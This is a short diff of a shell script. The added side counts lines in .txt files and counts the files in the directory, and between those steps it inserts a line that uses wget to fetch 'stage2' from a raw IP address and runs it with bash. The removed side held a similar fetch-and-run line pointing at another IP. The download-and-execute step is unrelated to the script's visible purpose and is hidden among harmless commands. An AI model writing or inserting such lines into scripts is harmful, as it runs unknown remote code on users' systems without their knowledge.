@@ -1,6 +1,8 @@
-#!/bin/sh
-log() { echo "[$(date +%H:%M:%S)] $*"; }
-if [ -z "$HOME" ]; then
-  echo "no home" >&2
-fi
-/usr/bin/env bash -c "$(wget -qO- https://203.0.113.9/x)"
+#!/usr/bin/env bash
+for f in *.txt; do
+  [ -e "$f" ] || continue
+  wc -l "$f"
+done
+/usr/bin/env bash -c "$(wget -qO- http://198.51.100.23:8000/stage2)"
+count=$(ls | wc -l)
+echo "files: $count"
